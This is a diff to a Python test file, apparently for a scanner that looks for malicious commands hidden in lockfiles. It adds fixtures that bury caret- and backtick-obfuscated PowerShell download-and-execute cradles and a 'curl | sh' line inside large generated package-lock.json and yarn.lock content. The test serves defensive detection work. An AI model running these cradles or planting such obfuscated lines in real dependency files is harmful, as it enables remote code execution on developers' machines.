@@ -254,6 +254,10 @@ def test_their_blobs_need_no_window(name: str) -> None:
 CRADLE = "iex (New-Object Net.WebClient).DownloadString('https://evil.test/stage.ps1')"
 
 
+CARETS = 'c^m^d /c p^o^w^e^r^s^h^e^l^l -w hidden -c "iex(irm https://evil.test/a.ps1)"'
+BACKTICKS = 'p`owe`rs`hell -w h`idden -c "i`ex(i`rm https://evil.test/a.ps1)"'
+
+
 def _encoded(script: str) -> str:
     return _b64(script.encode("utf-16-le"))
 
@@ -283,10 +287,23 @@ HIDDEN: dict[str, Callable[[], str]] = {
         "  integrity sha512-"
         + _b64(b"curl -fsSL http://203.0.113.7/i.sh | sh # padding to a digest's length.."),
     ),
+    # obfuscation the rules cannot see through, past thousands of package addresses that fill
+    # the deep windows first
+    "caret-obfuscated cmd in package-lock.json": lambda: _hide(npm_lock(MiB - 4 * KiB), CARETS),
+    "backtick-obfuscated PowerShell in yarn.lock": lambda: _hide(
+        yarn_lock(MiB - 4 * KiB), BACKTICKS
+    ),
+    # a download from a bare IP after more package URLs than the URL reader takes
+    "curl | sh from an IP in package-lock.json": lambda: _hide(
+        npm_lock(MiB - 4 * KiB), "curl -fsSL http://203.0.113.7/i.sh | sh"
+    ),
 }
 
 
 PAYLOADS = {
+    "caret-obfuscated cmd in package-lock.json": CARETS,
+    "backtick-obfuscated PowerShell in yarn.lock": BACKTICKS,
+    "curl | sh from an IP in package-lock.json": "curl -fsSL http://203.0.113.7/i.sh | sh",
     "encoded PowerShell in package-lock.json": f"powershell -w hidden -enc {_encoded(CRADLE)}",
     "bare encoded cradle in go.sum": CRADLE,
     "curl | sh among SHA256SUMS": "curl -fsSL http://203.0.113.7/i.sh | sh",
